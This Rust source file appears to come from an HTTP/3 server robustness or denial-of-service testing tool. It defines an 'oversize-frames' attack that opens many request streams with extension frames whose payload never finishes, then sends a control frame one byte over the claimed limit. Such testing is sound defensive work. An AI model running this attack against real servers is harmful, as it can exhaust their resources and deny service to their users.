//! Frames of an extension that are too long, or that never end.

use crate::attack::{Plan, Victim};
use crate::http;

use super::{Crowd, crowd};

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "oversize-frames",
    labels: &["A126"],
    summary: "frames that an extension claims, with the longest payload unfinished on many requests, \
              then with one above the limit",
    victim: Victim::Server,
    make: || Box::new(oversize_frames()),
};

fn oversize_frames() -> Crowd {
    Crowd::new(2, |connection, progress, _| {
        let claimed = http::CLAIMED_ON_REQUESTS;
        for _ in 0..crowd::permitted(connection, progress, BURST) {
            let id = http::request_stream(progress.streams);
            progress.streams += 1;
            // The last byte never arrives.
            let mut bytes = http::header(claimed, http::LONGEST_CLAIMED);
            bytes.resize(bytes.len() + UNFINISHED, 0x5a);
            connection.push_bytes(http::stream(id, 0, &bytes, false));
        }
        if progress.bursts == PATIENCE {
            // One byte more than was claimed. The header alone is enough.
            let bytes = http::header(http::CLAIMED_ON_CONTROL, http::LONGEST_CLAIMED + 1);
            let id = http::uni_stream(http::CONTROL);
            connection.push_bytes(http::stream(id, progress.control, &bytes, false));
            progress.control += bytes.len() as u64;
        }
    })
    .with_begin(crowd::preface)
}

/// Requests of one connection in one turn.
const BURST: u64 = 16;

/// Bytes of an unfinished payload.
const UNFINISHED: usize = 1000;

/// Turns of a connection before the frame that is too long.
const PATIENCE: u64 = 100;
